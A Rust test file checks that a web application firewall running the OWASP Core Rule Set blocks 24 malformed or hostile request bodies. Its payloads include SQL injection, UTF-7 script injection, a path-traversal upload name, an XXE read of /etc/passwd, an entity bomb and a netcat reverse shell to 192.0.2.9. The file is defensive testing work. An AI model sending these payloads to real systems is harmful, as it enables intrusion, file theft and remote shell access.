//! Publicly reported cases of bodies that were read wrongly, through the CRS: each under its id, with the rules that
//! must fire. Paranoia level 1 unless a case says otherwise.

use portcullis::config::Policy;
use portcullis::engine::{self, Inputs, Scratch};
use portcullis::input::RequestBuf;
use portcullis::model::{Outcome, Verdict};
use portcullis::ruleset::RuleSet;
use portcullis::service::policy::settle;
use portcullis::sets;

use crate::shared;

struct Case {
    id: &'static str,
    content_type: &'static str,
    header: Option<(&'static str, &'static str)>,
    body: Vec<u8>,
    /// The status; 200 when the request passes.
    status: u16,
    /// Rules that fire, others may.
    fires: &'static [u32],
}

const MULTIPART: &str = "multipart/form-data; boundary=lab";

fn case(id: &'static str, content_type: &'static str, body: &str, status: u16, fires: &'static [u32]) -> Case {
    Case { id, content_type, header: None, body: body.into(), status, fires }
}

/// A multipart body of parts: what follows `Content-Disposition: form-data; `, further headers, data.
fn multipart(parts: &[(&str, &str, &str)]) -> String {
    let part = |(disposition, headers, data): &(&str, &str, &str)| {
        format!("--lab\r\nContent-Disposition: form-data; {disposition}\r\n{headers}\r\n{data}\r\n")
    };
    format!("{}--lab--\r\n", parts.iter().map(part).collect::<String>())
}

fn cases() -> Vec<Case> {
    let utf7 = "+ADw-script+AD4-alert(1)+ADw-/script+AD4-";
    let charsets = [
        ("name=\"a\"", "Content-Type: text/plain; charset=UTF-7\r\n", utf7),
        ("name=\"b\"", "Content-Type: text/plain; charset=utf-8\r\n", "hello"),
    ];
    let base64 = [("name=\"a\"", "Content-Transfer-Encoding: base64\r\n", "PHNjcmlwdD4=")];
    let upload = [("name=\"f\"; filename=\"a\\..\\shell.php\"", "Content-Type: text/plain\r\n", "x")];
    let twice = [("name=\"a\"; name=\"b\"", "", "1' or 1=1--")];
    let extended = [("name=\"f\"; filename=\"a.txt\"; filename*=UTF-8''shell.php", "", "x")];
    let pem = [
        ("name=\"f\"; filename=\"c.pem\"", "", "-----BEGIN CERTIFICATE-----\r\nMIIB\r\n-----END CERTIFICATE-----"),
        ("name=\"note\"", "", "see you\r\n--\r\nAnn"),
    ];
    let json = "application/json";
    let sqli = r#"{"email":"' or 1=1 --"}"#;
    let deep = |depth: usize| format!("{}1{}", r#"{"a":"#.repeat(depth), "}".repeat(depth));
    let doctype = r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>hello&x;</r>"#;
    let shell = "<r><ip>$(nc${IFS}192.0.2.9${IFS}4444${IFS}-e${IFS}$SHELL)</ip></r>";
    let bomb = format!(
        "<!DOCTYPE r [<!ENTITY a \"x\"><!ENTITY b \"{}\"><!ENTITY c \"{}\">]><r>&c;</r>",
        "&a;".repeat(10),
        "&b;".repeat(10)
    );
    vec![
        case("R01", MULTIPART, &multipart(&charsets), 403, &[922_110]),
        case("R03", MULTIPART, &multipart(&upload), 403, &[920_120, 930_100, 930_110, 933_110]),
        case("R04a", MULTIPART, &multipart(&twice), 400, &[200_002]),
        case("R04b", MULTIPART, &multipart(&extended), 400, &[200_003]),
        case("R06", MULTIPART, &multipart(&base64), 403, &[922_120]),
        case("R07", json, r#""' OR '1'='1""#, 403, &[942_100]),
        case("R07 text", json, r#""hello""#, 200, &[]),
        case("R07 number", json, "123", 200, &[]),
        case("R08a", "text/plain", sqli, 403, &[920_420]),
        case("R08b", json, sqli, 403, &[942_100]),
        case("R10", "application/json; charset=UTF16-LE", r#"{"a":"' or 1=1 --"}"#, 403, &[920_480, 942_100]),
        Case {
            header: Some(("Content-Encoding", "gzip")),
            body: vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 0xab, 0x56],
            ..case("R14", json, "", 400, &[200_002])
        },
        case("R16", "text/xml", doctype, 200, &[]),
        case("R18 shell", "text/xml", shell, 403, &[932_130, 932_160, 933_135]),
        case("R18 broken", "text/xml", "<r><a></r>", 400, &[200_002]),
        case("R18 bomb", "text/xml", &bomb, 400, &[200_002]),
        Case { body: b"{\"f\":\"\xc0\xae\xc0\xae\xc0\xafx\"}".to_vec(), ..case("R23", json, "", 200, &[920_250]) },
        case("R30a", "multipart/form-data; boundary=", "x", 400, &[920_470, 200_002]),
        case("R30b", "multipart/form-data; boundary=\"b; x", "x", 400, &[200_002]),
        case("R30c", "application/json;;=;", "{}", 403, &[920_470]),
        case("R33", "text/xml", "<a></a>", 200, &[]),
        case("R35 600", json, &deep(600), 400, &[200_002]),
        case("R35 100000", json, &"[".repeat(100_000), 400, &[200_002]),
        case("R87", MULTIPART, &multipart(&pem), 200, &[]),
    ]
}

fn request(case: &Case) -> RequestBuf {
    let length = case.body.len().to_string();
    let fixed = [
        ("Host", "shop.example"),
        ("User-Agent", "Mozilla/5.0 lab"),
        ("Accept", "*/*"),
        ("Content-Type", case.content_type),
        ("Content-Length", &length),
    ];
    let headers = fixed.into_iter().chain(case.header);
    RequestBuf {
        method: b"POST".to_vec(),
        target: b"/x".to_vec(),
        headers: headers.map(|(name, value)| (name.into(), value.into())).collect(),
        body: case.body.clone(),
        ..RequestBuf::default()
    }
}

fn judge(rules: &RuleSet, policy: &Policy, request: &RequestBuf) -> Outcome {
    let mut scratch = Scratch::default();
    let mut outcome =
        request.with_request(|request| engine::evaluate(rules, request, &Inputs::default(), &mut scratch));
    settle(&mut outcome, policy);
    outcome
}

#[test]
fn public_cases() {
    let Some(folder) = shared::folder("crs/4.28.0") else { return };
    let policy = Policy { rules: Some(format!("crs@{}", folder.display())), ..Policy::default() };
    let set = sets::load(&policy).expect("the CRS loads");
    let cases = cases();
    let mut failures = Vec::new();
    for case in &cases {
        let outcome = judge(&set.rules, &policy, &request(case));
        let status = match outcome.verdict {
            Verdict::Allow => 200,
            Verdict::Deny { status, .. } | Verdict::Redirect { status, .. } => status,
        };
        let fired: Vec<_> = outcome.rules.iter().map(|rule| rule.info.id.get()).collect();
        let silent: Vec<_> = case.fires.iter().filter(|id| !fired.contains(id)).collect();
        if status != case.status || !silent.is_empty() {
            failures.push(format!("{}: {status}, fired {fired:?}, silent {silent:?}", case.id));
        }
    }
    println!("bodies: {} ran, {} failed", cases.len(), failures.len());
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    assert_eq!(cases.len(), 24);
}
